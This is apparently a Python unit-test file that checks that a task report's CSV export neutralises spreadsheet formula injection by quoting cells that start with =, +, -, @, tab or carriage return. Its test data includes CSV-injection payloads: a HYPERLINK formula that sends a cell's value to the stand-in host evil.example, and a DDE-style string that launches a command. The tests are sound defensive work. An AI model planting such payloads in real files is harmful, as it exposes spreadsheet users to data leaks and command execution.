"""The report's CSV never hands a spreadsheet a formula: task names and people come from anyone who can name a task
in Asana (OWASP, CSV injection)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from bridge.domain.model import ChannelId
from bridge.domain.report import ALL, build_report
from bridge.domain.report_access import Grant
from bridge.entrypoints.report_formats import as_csv, spreadsheet_safe
from bridge.services.reports import ReportLink, ReportView
from tests.unit.test_report import POLICY, at, task


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example","Open")', '\'=HYPERLINK("http://evil.example","Open")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Rotate the signing key", "Rotate the signing key"),
        ("a = b", "a = b"),  # only a leading sign starts a formula
        ("", ""),
        (-3, -3),  # numbers are data, not text a person typed
        (2.5, 2.5),
        (None, None),
    ],
)
def test_text_cells_that_start_a_formula_are_quoted(cell: Any, written: Any) -> None:
    assert spreadsheet_safe(cell) == written


def test_every_table_of_the_csv_is_safe_to_open() -> None:
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")'
    report = build_report(
        [
            task(1, "2026-11-30 10:00")._replace(name=hostile),
            task(2, "2026-11-30 10:00")._replace(name="-negative", assignee="@bo"),
        ],
        policy_of=lambda _: POLICY,
        now=at("2026-11-30 11:00"),
        calendar=POLICY,
        weeks=1,
    )
    view = ReportView(report, (ReportLink("T1-C1", "Intake", ChannelId("C1")),), "T1-C1", Grant(ALL))
    for table in ("open", "people", "pushes"):
        for row in csv.reader(io.StringIO(as_csv(view, table))):
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), (table, row)
    names = [row["name"] for row in csv.DictReader(io.StringIO(as_csv(view, "open")))]
    assert sorted(names) == sorted(["'" + hostile, "'-negative"])
